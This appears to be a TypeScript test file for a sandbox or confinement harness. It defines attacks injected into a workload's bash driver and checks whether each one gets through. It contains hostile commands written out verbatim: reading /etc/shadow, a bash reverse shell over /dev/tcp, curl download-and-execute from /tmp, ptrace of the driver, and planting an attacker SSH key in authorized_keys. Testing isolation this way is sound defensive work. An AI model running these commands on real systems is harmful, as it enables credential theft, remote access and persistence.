// SPDX-License-Identifier: Apache-2.0
// Attacks that work on every workload: the driver, which is bash, or the check of health turns hostile at the place of injection.
// Each runs in a process of its own, so that the driver can end what it has started. Attacks by the services themselves stand with them.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Attack, Ended, FreshRun } from "./workload.ts";

/** What the check of health prints when an attack came through. */
const HARM = /^HARM \w+$/m;

/** The secret must not have been printed; nor must something else that an attack prints. */
function printed({ stdout, stderr }: Ended, secret: string): string | undefined {
  const all = `${stdout}\n${stderr}`;
  if (all.includes(secret)) return "the secret was printed";
  return HARM.exec(all)?.[0];
}

function reading(name: string, command: string): Attack {
  return {
    name,
    inject: () => `( ${command} )`,
    harm: (_run, { secret }, ended) => printed(ended, secret),
  };
}

export const SHADOW_BY_CAT: Attack = reading("cat /etc/shadow", "cat /etc/shadow");
export const SHADOW_BY_GREP: Attack = reading("grep in /etc/shadow", "grep root /etc/shadow");
/** The driver's own process, without another program. */
export const SHADOW_BY_DRIVER: Attack = reading(
  "the driver reads /etc/shadow",
  'while read -r line; do echo "$line"; done </etc/shadow',
);
export const SHADOW_BY_HEALTH: Attack = {
  name: "a known program reads /etc/shadow",
  inject: ({ site }) => `${site.health} read /etc/shadow`,
  harm: (_run, { secret }, ended) => printed(ended, secret),
};

/** What a shell at the other end has answered; the listener asks for it. */
const SHELL_ANSWER = /HARM-42/;

function shellHarm(heard: readonly string[]): string | undefined {
  return heard.some((text) => SHELL_ANSWER.test(text)) ? "a shell answered" : undefined;
}

export const REVERSE_SHELL: Attack = {
  name: "reverse shell (bash)",
  inject: (_run, { port }) => `( exec bash -i >&/dev/tcp/127.0.0.1/${port} 0>&1 )`,
  harm: (_run, { heard }) => shellHarm(heard),
};

export const DOWNLOAD_EXEC: Attack = {
  name: "download and run from /tmp",
  inject: ({ site, seed }, { port }) =>
    `${site.health} download 127.0.0.1 ${port} /tmp/galgo-dropped-${seed}; rm -f /tmp/galgo-dropped-${seed}`,
  harm: (_run, { secret }, ended) => printed(ended, secret),
};
/** As DOWNLOAD_EXEC, with the curl that a workload uses itself. */
export const CURL_EXEC: Attack = {
  name: "curl, then run from /tmp",
  inject: ({ seed }, { port }) => {
    const file = `/tmp/galgo-dropped-${seed}`;
    return `( curl -s -o ${file} http://127.0.0.1:${port}/; chmod 755 ${file}; ${file} ); rm -f ${file}`;
  },
  harm: (_run, { secret }, ended) => printed(ended, secret),
};

export const MEMFD_EXEC: Attack = {
  name: "memfd exec",
  inject: ({ site }) => `${site.health} memfd`,
  harm: (_run, { secret }, ended) => printed(ended, secret),
};

const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker attacker";

/** The words of an attack on `~/.ssh/authorized_keys`; for attacks by services, too. */
export function keyHarm(run: FreshRun, key = KEY): string | undefined {
  const file = join(run.home, ".ssh/authorized_keys");
  const written = existsSync(file) && readFileSync(file, "latin1").includes(key);
  return written ? "authorized_keys holds the attacker's key" : undefined;
}

/** The file is there, as that of most people is. */
export function emptyKeys(run: FreshRun): void {
  run.write("home/.ssh/authorized_keys", "", 0o600);
}

export const AUTHORIZED_KEYS_BY_HEALTH: Attack = {
  name: "a known program writes ~/.ssh/authorized_keys",
  arrange: emptyKeys,
  inject: ({ site }) => `${site.health} append ~/.ssh/authorized_keys '${KEY}'`,
  harm: (run) => keyHarm(run),
};

/** The driver waits for its health check, so this process is there. */
export const PTRACE: Attack = {
  name: "ptrace of the driver",
  inject: ({ site }) => `${site.health} ptrace $$`,
  harm: (_run, { secret }, ended) => printed(ended, secret),
};

/** For attacks that connect: whether anybody came. */
export const reachedListener: Attack["harm"] = (_run, { heard }) =>
  heard.length > 0 ? "the listener was reached" : undefined;

export const NEW_HOST: Attack = {
  name: "connect to a new host",
  inject: ({ site }, { port, otherHost }) => `${site.health} connect ${otherHost} ${port}`,
  harm: reachedListener,
};

/** For every workload whose driver is bash and runs the check of health. */
export const COMMON_ATTACKS: readonly Attack[] = [
  SHADOW_BY_CAT,
  SHADOW_BY_GREP,
  SHADOW_BY_DRIVER,
  REVERSE_SHELL,
  DOWNLOAD_EXEC,
  MEMFD_EXEC,
  AUTHORIZED_KEYS_BY_HEALTH,
  PTRACE,
  NEW_HOST,
];
